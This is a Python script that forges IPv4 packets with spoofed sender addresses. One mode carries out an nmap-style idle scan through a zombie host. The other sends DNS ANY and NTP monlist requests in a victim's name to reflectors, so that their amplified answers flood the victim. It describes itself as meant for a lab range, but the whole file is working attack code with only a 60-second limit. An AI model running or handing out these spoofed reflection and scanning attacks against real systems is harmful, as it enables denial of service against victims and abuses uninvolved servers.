#!/usr/bin/env python3
"""Packets with a sender that is not ours, for what no tool of Debian's does on this kernel:

forge.py idle ZOMBIE TARGET RATE PORT...
    nmap -sI needs a zombie that counts its packets in one counter, which Linux has given up; the
    packets are the same: the zombie is asked (SYN-ACK), the target gets a SYN from the zombie's
    address, the zombie is asked again
forge.py dns|monlist VICTIM RATE SECONDS REFLECTOR...
    small requests from the victim's address, large answers to it

IPv4; RATE a second; at most 60 s. For the range's own namespaces."""

import random
import socket
import struct
import sys
import time

SECONDS_MAX = 60
SYN, SYN_ACK = 0x02, 0x12


def checksum(data):
    """RFC 1071."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source, target, proto, body):
    """A whole IPv4 packet (the kernel fills in length and checksum)."""
    head = struct.pack(">BBHHHBBH", 0x45, 0, 0, random.randrange(65536), 0, 64, proto, 0)
    return head + socket.inet_aton(source) + socket.inet_aton(target) + body


def tcp(source, target, ports, flags):
    """A TCP segment without data."""
    head = struct.pack(">HHIIBBHHH", *ports, random.getrandbits(32), 0, 0x50, flags, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">HH", 6, len(head))
    return ip(source, target, 6, head[:16] + struct.pack(">HH", checksum(pseudo + head), 0))


def udp(source, target, ports, data):
    """A datagram, without a checksum."""
    return ip(source, target, 17, struct.pack(">HHHH", *ports, 8 + len(data), 0) + data)


def raw():
    """The socket all go out by."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def own_address(target):
    """The address that packets to the target leave from."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((target, 9))
        return sock.getsockname()[0]


def idle(zombie, target, rate, *ports):
    """See above."""
    me, end = own_address(zombie), time.monotonic() + SECONDS_MAX
    with raw() as sock:
        for port in ports:
            for packet in (
                tcp(me, zombie, (random.randint(40000, 60000), 80), SYN_ACK),
                tcp(zombie, target, (80, int(port)), SYN),
                tcp(me, zombie, (random.randint(40000, 60000), 80), SYN_ACK),
            ):
                sock.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
                time.sleep(0.3 / float(rate))
            if time.monotonic() > end:
                return


def reflect(request, port, victim, rate, seconds, reflectors):
    """Requests in the victim's name."""
    end = time.monotonic() + min(float(seconds), SECONDS_MAX)
    with raw() as sock:
        while time.monotonic() < end:
            for reflector in reflectors:
                mine = random.randint(1024, 65000)
                sock.sendto(udp(victim, reflector, (mine, port), request), (reflector, 0))
                time.sleep(1 / float(rate))


def dns():
    """A question whose answer is long."""
    return (struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 1)
            + b"\x03big\x07example\x00" + struct.pack(">HH", 16, 1)
            + b"\x00" + struct.pack(">HHIH", 41, 4096, 0, 0))


def main():
    """See above."""
    what, victim, rest = sys.argv[1], sys.argv[2], sys.argv[3:]
    if what == "idle":
        idle(victim, *rest)
    elif what == "dns":
        reflect(dns(), 53, victim, rest[0], rest[1], rest[2:])
    else:
        reflect(b"\x17\x00\x03\x2a" + bytes(4), 123, victim, rest[0], rest[1], rest[2:])


if __name__ == "__main__":
    main()
